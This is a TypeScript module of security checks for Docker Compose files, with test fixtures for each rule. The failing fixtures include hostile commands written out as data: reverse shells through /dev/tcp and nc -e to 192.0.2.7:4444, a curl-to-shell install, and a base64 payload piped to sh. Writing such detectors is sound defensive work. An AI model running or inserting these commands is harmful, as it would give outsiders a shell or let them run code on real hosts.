import { VARIABLE_RULES, variableRisk } from '../../container-options/variables.ts';
import { OPEN_START, openStart } from '../../container-options/commands.ts';
import { runsDownload, TAKEOVER, takeoverIn } from '../../scripts/texts.ts';
import { about, type ComposeCheck, itemsOf, servicesOf, textOf, variablesOf } from './services.ts';

const withVariable = ([name, value]: readonly [string, string]) =>
  `services:\n  web:\n    image: web:1\n    environment:\n      ${name}: "${value}"\n`;
const inList = ([name, value]: readonly [string, string]) =>
  `services:\n  web:\n    image: web:1\n    environment: ["${name}=${value}"]\n`;

/** What variables and commands of a service open. */
export const VARIABLE_CHECKS: readonly ComposeCheck[] = [
  ...VARIABLE_RULES.map(({ risk, bad, good, ...head }): ComposeCheck => ({
    ...head,
    id: `compose-${risk}`,
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const { keys, name, value } of variablesOf(service, 'environment'))
          if (value !== undefined && variableRisk(name, value) === risk)
            yield about(service, keys, `${name}: ${value}`, `no ${name}`);
    },
    failing: [withVariable(bad), inList(bad)],
    passing: [withVariable(good), inList(good)],
  })),
  {
    ...OPEN_START,
    id: 'compose-program-open',
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const part of ['command', 'entrypoint']) {
          const words = itemsOf(service, part).map(({ text = '' }) => text);
          const found = openStart(words, textOf(service.get('image')));
          if (found) yield about(service, [part], found.actual, found.expected);
        }
    },
    failing: [
      'services:\n  db:\n    image: redis:8\n    command: redis-server --protected-mode no\n',
      'services:\n  db:\n    image: mysql:8.4\n    command: ["--skip-grant-tables"]\n',
      'services:\n  proxy:\n    image: traefik:v3.5\n    command: [--api.insecure=true]\n',
    ],
    passing: [
      'services:\n  db:\n    image: redis:8\n    command: redis-server --appendonly yes\n',
      'services:\n  proxy:\n    image: traefik:v3.5\n    command: [--api.insecure=false]\n',
    ],
  },
  {
    id: 'compose-download-run',
    title: 'A service runs what it downloads',
    why: 'Whoever holds the address, or the way to it, decides what runs, past the image and its scan.',
    fix: 'Build it into the image.',
    severity: 'medium',
    vectors: ['V3', 'V7'],
    references: ['https://docs.docker.com/build/building/best-practices/#run'],
    standards: ['NIST SP 800-190 4.1.5'],
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const part of [['command'], ['entrypoint'], ['healthcheck', 'test']])
          if (itemsOf(service, ...part).some(({ text = '' }) => runsDownload(text.slice(0, 16_384))))
            yield about(service, part, 'a download that a shell runs', 'what is in the image');
    },
    failing: [
      'services:\n  web:\n    image: web:1\n    command: sh -c "curl -fsSL https://get.example/install.sh | sh"\n',
    ],
    passing: [
      'services:\n  web:\n    image: web:1\n    healthcheck: {test: "curl -fsS http://localhost/ready | grep ok"}\n',
    ],
  },
  {
    ...TAKEOVER,
    id: 'compose-takeover',
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const part of [['command'], ['entrypoint'], ['healthcheck', 'test']]) {
          const found = takeoverIn(itemsOf(service, ...part).map(({ text = '' }) => text));
          if (found !== undefined) yield about(service, part, found, 'the program of the image');
        }
    },
    failing: [
      'services:\n  web:\n    image: web:1\n    command: bash -c "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"\n',
      'services:\n  web:\n    image: web:1\n    command: ["nc", "192.0.2.7", "4444", "-e", "/bin/sh"]\n',
      'services:\n  web:\n    image: web:1\n    entrypoint: [sh, -c, "echo bHMK | base64 -d | sh"]\n',
    ],
    passing: [
      'services:\n  web:\n    image: web:1\n    command: ["sh", "-c", "nc -z db 5432 && exec web"]\n',
      'services:\n  web:\n    image: web:1\n    command: sh -c "echo $$KEY | base64 -d > /tmp/key && exec web"\n',
    ],
  },
];
